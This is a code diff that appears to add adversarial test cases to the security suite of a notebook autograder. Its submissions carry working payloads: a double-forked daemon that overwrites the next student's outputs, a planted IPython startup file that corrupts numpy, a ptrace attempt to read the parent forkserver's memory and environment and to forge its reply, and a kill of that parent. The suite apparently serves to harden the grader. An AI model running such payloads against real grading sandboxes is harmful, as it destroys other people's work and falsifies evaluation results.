@@ -319,6 +319,101 @@ attack(
     3,
 )
 
+SABOTAGE_DAEMON = (
+    "import glob, time\n"
+    "while True:\n"
+    "    for f in glob.glob('/home/student/out/*') + glob.glob('/home/student/*.json'):\n"
+    "        try:\n"
+    "            open(f, 'wb').write(b'garbage')\n"
+    "        except OSError:\n"
+    "            pass\n"
+    "    time.sleep(0.01)\n"
+)
+
+attack(
+    "sabotage_next_submission",
+    "leave an IPython startup file, files in /tmp and /dev/shm, and daemons that overwrite the "
+    "next submission's outputs (graded alone it scores 0: it answers nothing)",
+    _with(
+        insert=[
+            (
+                SQUARE_CELL,
+                (
+                    "import os, pathlib, subprocess, sys\n"
+                    "_startup = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
+                    "_startup.mkdir(parents=True, exist_ok=True)\n"
+                    "(_startup / '00-sabotage.py').write_text("
+                    "'import numpy as np\\nnp.maximum = lambda a, b: a * 0 - 1\\n')\n"
+                    "for _d in ['/tmp', '/dev/shm']:\n"
+                    "    try:\n"
+                    "        open(_d + '/sabotage.py', 'w').write('x')\n"
+                    "    except OSError:\n"
+                    "        pass\n"
+                    f"_code = {SABOTAGE_DAEMON!r}\n"
+                    "subprocess.Popen([sys.executable, '-c', _code], start_new_session=True,\n"
+                    "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
+                    "                 stderr=subprocess.DEVNULL)\n"
+                    "if os.fork() == 0:\n"
+                    "    os.setsid()\n"
+                    "    if os.fork() == 0:\n"
+                    "        time = __import__('time'); time.sleep(1.5)\n"
+                    "        exec(_code)\n"
+                    "    os._exit(0)"
+                ),
+            )
+        ],
+        cells={
+            SQUARE_CELL: "def square(x):\n    raise NotImplementedError()",
+            RELU_CELL: "def relu(x):\n    raise NotImplementedError()",
+        },
+    ),
+    0,
+)
+
+attack(
+    "reach_the_forkserver",
+    "from the kernel, ptrace its parent and open its memory, environment and reply pipe",
+    _with(
+        insert=[
+            (
+                SQUARE_CELL,
+                (
+                    "import ctypes, json, os\n"
+                    "_ppid = os.getppid()\n"
+                    "_libc = ctypes.CDLL(None, use_errno=True)\n"
+                    "_report = {'ptrace': _libc.ptrace(16, _ppid, 0, 0)}\n"
+                    "for _what, _mode in [('mem', 'rb'), ('environ', 'rb'), ('fd/1', 'wb')]:\n"
+                    "    try:\n"
+                    "        _fh = open(f'/proc/{_ppid}/{_what}', _mode)\n"
+                    "        _report[_what] = 'opened'\n"
+                    "        if _what == 'fd/1':\n"
+                    "            _fh.write(json.dumps({'exit': 0}).encode() + b'\\n')\n"
+                    "            _fh.flush()\n"
+                    "    except OSError as exc:\n"
+                    "        _report[_what] = type(exc).__name__\n"
+                    "print(_report)"
+                ),
+            )
+        ]
+    ),
+    3,
+)
+
+attack(
+    "kill_the_forkserver",
+    "kill the kernel's parent process (SIGKILL) in the relu cell",
+    _with(
+        cells={
+            RELU_CELL: "import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\n"
+            "time.sleep(2)\n" + GOOD_RELU
+        }
+    ),
+    1,
+    "crashed",
+    test_square=1,
+    test_relu=0,
+)
+
 MALFORMED: dict[str, tuple[str, bytes]] = {
     "malformed_json": ("a file that is not JSON", b'{"cells": [ this is not json'),
     "wrong_nbformat": (
